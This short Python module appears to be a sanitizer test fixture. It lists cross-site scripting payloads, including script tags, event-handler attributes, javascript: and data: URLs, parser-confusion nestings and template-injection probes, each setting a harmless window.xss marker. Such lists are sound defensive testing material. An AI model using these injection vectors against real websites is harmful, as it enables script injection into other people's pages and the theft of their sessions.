"""Texts that run a script where they are not cleaned or escaped."""

PAYLOADS = [
    "<script>window.xss=1</script>",
    "<img src=x onerror=window.xss=1>",
    "<svg onload=window.xss=1>",
    "<svg><script>window.xss=1</script></svg>",
    '<a href="javascript:window.xss=1">a</a>',
    '<a href="java&#10;script:window.xss=1">a</a>',
    '<a href="data:text/html,<script>window.xss=1</script>">a</a>',
    '<a href="//evil.example/">a</a><a href="/\\evil.example/">a</a>',
    "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.xss=1>",
    "<p style='background:url(javascript:window.xss=1)' onclick=window.xss=1>p</p>",
    "<details open ontoggle=window.xss=1>d</details>",
    "<input autofocus onfocus=window.xss=1>",
    "<form action=javascript:window.xss=1><button>b</button></form>",
    '"><script>window.xss=1</script>',
    "'-window.xss=1-'",
    "</textarea></title></script><script>window.xss=1</script>",
    "{{ 7|add:7 }}[[<img src=x onerror=window.xss=1>]]{% now 'Y' %}",
]
